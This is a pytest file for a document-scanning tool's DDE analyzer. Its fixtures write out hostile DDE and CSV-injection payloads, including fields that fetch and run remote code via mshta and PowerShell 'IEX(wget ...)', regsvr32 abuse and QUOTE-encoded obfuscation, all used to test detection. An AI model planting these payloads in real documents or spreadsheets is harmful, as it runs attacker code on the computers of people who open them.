"""DDE fields and formulas: oletools PoCs (doc, docx, xlsx, Excel 2003 XML), crafted RTF/CSV/docx."""

from __future__ import annotations

import pytest

from coinguard.analyzers.dde import DdeFields
from coinguard.findings import Finding, Item
from coinguard.sniff import sniff

from helpers import DATA, make_context, read_corpus_sample, zip_bytes

ANALYZER = DdeFields()
BOTH = {"dde.field", "dde.command"}


def run(data: bytes, name: str = "doc") -> list[Finding]:
    item = Item(path=name, name=name, data=data, type=sniff(data))
    if not ANALYZER.applies_to(item):
        return []
    return [f for f in ANALYZER.handle(item, make_context()) if isinstance(f, Finding)]


def codes(findings: list[Finding]) -> set[str]:
    return {f.code for f in findings}


@pytest.mark.parametrize(
    "name",
    ["oletools_dde-test.docx", "oletools_dde-test-from-office2003.doc", "oletools_dde-test.xlsx",
     "oletools_dde-in-excel2003.xml"],
)
def test_oletools_dde_pocs(name: str) -> None:
    findings = run((DATA / name).read_bytes(), name)
    assert codes(findings) == BOTH
    assert "calc.exe" in findings[1].detail


def test_word_doc_field_detail_keeps_the_command() -> None:
    findings = run((DATA / "oletools_dde-test-from-office2003.doc").read_bytes())
    assert 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"' in findings[0].detail


def docx_with_field(instr: str) -> bytes:
    doc = (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instr}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
    )
    ctypes = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
              '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
              'wordprocessingml.document.main+xml"/></Types>')
    return zip_bytes({"[Content_Types].xml": ctypes.encode(), "word/document.xml": doc.encode()})


def test_crafted_docx_ddeauto_powershell() -> None:
    findings = run(docx_with_field(' DDEAUTO "C:\\\\Programs\\\\powershell.exe" "-w hidden -c iex x" '), "a.docx")
    assert codes(findings) == BOTH


def test_crafted_docx_quote_encoded_dde() -> None:
    # QUOTE 68 68 69 ... spells "DDE ..." once Word evaluates it; msodde unquotes it.
    spelled = " ".join(str(ord(c)) for c in 'DDE "cmd.exe" "/c calc"')
    findings = run(docx_with_field(f"QUOTE {spelled}"), "q.docx")
    assert codes(findings) == BOTH


def test_crafted_docx_ordinary_fields_are_ignored() -> None:
    assert run(docx_with_field(" PAGE \\* MERGEFORMAT "), "p.docx") == []
    assert run(docx_with_field(' HYPERLINK "https://www.example.com" '), "h.docx") == []


def test_crafted_rtf_ddeauto() -> None:
    data = (b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO "C:\\\\Windows\\\\System32\\\\cmd.exe" "/c mshta http://x/a"}'
            b"{\\fldrslt }}}")
    findings = run(data, "a.rtf")
    assert codes(findings) == BOTH


def test_crafted_rtf_dde_field_without_command() -> None:
    data = b'{\\rtf1{\\field{\\*\\fldinst DDE Excel "C:\\\\Book1" "R1C1"}{\\fldrslt }}}'
    findings = run(data, "a.rtf")
    assert codes(findings) == {"dde.field"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"name,amount\nalice,=cmd|' /C calc'!A0\n", BOTH),
        (b"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /u scrobj.dll'!''\n", BOTH),
        (b'id;note\n1;"@SUM(1+1)*cmd|\' /C powershell IEX(wget 0r.pe/p)\'!A0"\n', BOTH),
        (b"name,amount\nalice,12\nbob,=SUM(B1:B2)\n", set()),
    ],
)
def test_csv_dde_formulas(text: bytes, expected: set[str]) -> None:
    assert codes(run(text, "list.csv")) == expected


def test_truncated_docx_is_a_parse_error() -> None:
    data = docx_with_field(" DDEAUTO cmd /c calc ")[:-30]
    findings = run(data, "x.docx")
    assert codes(findings) == {"dde.parse_error"}


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("relpath", "expected"),
    [
        ("maldocs/oletools/dde-test-from-office2013-utf_16le-korean.doc.zip", BOTH),
        ("maldocs/oletools/dde-in-word2007.xml.zip", BOTH),
        ("maldocs/oletools/dde-test.xlsb.zip", BOTH),
        ("benign/attachments/oletools/harmless-clean.doc", set()),
        ("benign/attachments/oletools/harmless-clean.docx", set()),
        ("benign/attachments/oletools/harmless-clean.xml", set()),
        ("benign/attachments/strelka/test.doc", set()),
        ("benign/attachments/strelka/test.docx", set()),
    ],
)
def test_corpus_documents(corpus_dir: object, relpath: str, expected: set[str]) -> None:
    assert codes(run(read_corpus_sample(relpath))) == expected


def test_csv_hint_stays_fast_on_hostile_text() -> None:
    import time

    data = (b"a=" * 5000 + b"|\n") * 200
    item = Item(path="t.csv", name="t.csv", data=data, type="text")
    started = time.monotonic()
    assert not ANALYZER.applies_to(item)
    assert time.monotonic() - started < 2.0
